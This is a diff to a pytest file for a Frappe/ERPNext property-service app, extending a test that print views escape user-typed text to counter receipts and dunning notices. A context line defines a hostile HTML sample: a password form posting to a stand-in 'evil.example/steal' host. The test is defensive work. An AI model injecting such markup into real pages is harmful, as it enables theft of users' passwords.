@@ -8,7 +8,7 @@ import pytest
 from frappe.utils import add_days, now_datetime, today
 
 from tests.portal_world import make_world, purge_world
-from tests.utils import delete_user, make_user
+from tests.utils import delete_user, make_user, purge_invoices, purge_payments
 
 HOSTILE = (
 	'<form action="https://evil.example/steal"><input type="password" name="pw"></form>'
@@ -183,6 +183,32 @@ def drill(world):
 	return [("Emergency Drill", doc.name)]
 
 
+def counter_receipt(world):
+	"""The counter's receipt of a fee invoice, taken as an Administrator (an accountant: the entry
+	is submitted); the payer's name and the card slip's reference as typed."""
+	from property_service.billing.payments import CASH
+	from property_service.fees.counter import take_payment
+	from tests.test_dunning import fee_invoice
+
+	invoice = fee_invoice(world.unit, "2031-07", 120, due_days_ago=1)
+	entry = take_payment(world.unit, CASH, 120, [invoice.name], reference_no="POS-1")
+	set_text("Payment Entry", entry.name, ("party_name", "reference_no", "remarks"))
+	return [("Payment Entry", entry.name)]
+
+
+def dunning_notice(world):
+	"""A first notice of an invoice 40 days overdue; the payer's name and the letter as typed."""
+	from property_service.fees import dunning
+	from tests.test_dunning import fee_invoice
+
+	invoice = fee_invoice(world.unit, "2031-08", 300, due_days_ago=40)
+	name = dunning.make_dunning(
+		frappe._dict(name=invoice.name, company=invoice.company), 1, dunning.DUNNING_TYPES[0], today()
+	)
+	set_text("Dunning", name, ("customer_name", "body_text", "closing_text"))
+	return [("Dunning", name)]
+
+
 # every print format the app ships -> what makes a record of it (the printed record comes last,
 # or is named by its DocType)
 FORMATS = {
@@ -197,28 +223,29 @@ FORMATS = {
 	"Renovation Application Form": renovation,
 	"Vacant Unit Inspection Form": vacant_inspection,
 	"Emergency Drill Report": drill,
+	"Counter Receipt": counter_receipt,
+	"Dunning Notice": dunning_notice,
 }
-
-
-# formats of ERPNext documents (a Payment Entry's receipt, a Dunning's notice) whose hostile-text
-# case is not written yet: the app's before_print hook escapes their typed text as every other's
-NOT_YET = {"Counter Receipt", "Dunning Notice"}
+# who prints them: the supervisor, or for ERPNext's money documents an accountant
+PRINTED_BY_ACCOUNTANT = {"Counter Receipt", "Dunning Notice"}
 
 
 def test_every_shipped_print_format_is_covered():
 	modules = frappe.get_all("Module Def", {"app_name": "property_service"}, pluck="name")
 	shipped = set(frappe.get_all("Print Format", {"module": ["in", modules]}, pluck="name"))
-	assert shipped == set(FORMATS) | NOT_YET
+	assert shipped == set(FORMATS)
 
 
 @pytest.fixture(scope="module")
 def world(site):
 	world = make_world()
 	world.supervisor = make_user(roles=("Customer Service Supervisor",))
+	world.accountant = make_user(roles=("Accounts User",))
 	frappe.db.commit()  # nosemgrep: the web server is another process
 	yield world
 	purge_world(world)
 	delete_user(world.supervisor)
+	delete_user(world.accountant)
 	frappe.db.commit()  # nosemgrep: clean-up of committed test data
 
 
@@ -235,7 +262,10 @@ def record(world, request):
 	finally:
 		frappe.db.rollback()
 		for made_doctype, made_name in reversed(made):
-			frappe.delete_doc(made_doctype, made_name, force=True, ignore_permissions=True)
+			if made_doctype != "Payment Entry":  # submitted: purged with its ledger rows below
+				frappe.delete_doc(made_doctype, made_name, force=True, ignore_permissions=True)
+		purge_payments([world.unit])
+		purge_invoices({"property_unit": world.unit})
 		frappe.db.commit()  # nosemgrep: clean-up of committed test data
 
 
@@ -250,7 +280,7 @@ def assert_escaped(html: str, where: str) -> None:
 def test_a_print_view_shows_what_users_typed_as_text(world, rest, record, standard):
 	print_format, doctype, name = record
 	form = "Standard" if standard else print_format
-	rest.login(world.supervisor)
+	rest.login(world.accountant if print_format in PRINTED_BY_ACCOUNTANT else world.supervisor)
 	page = rest.get(
 		"/printview", params={"doctype": doctype, "name": name, "format": form, "no_letterhead": 1}
 	)
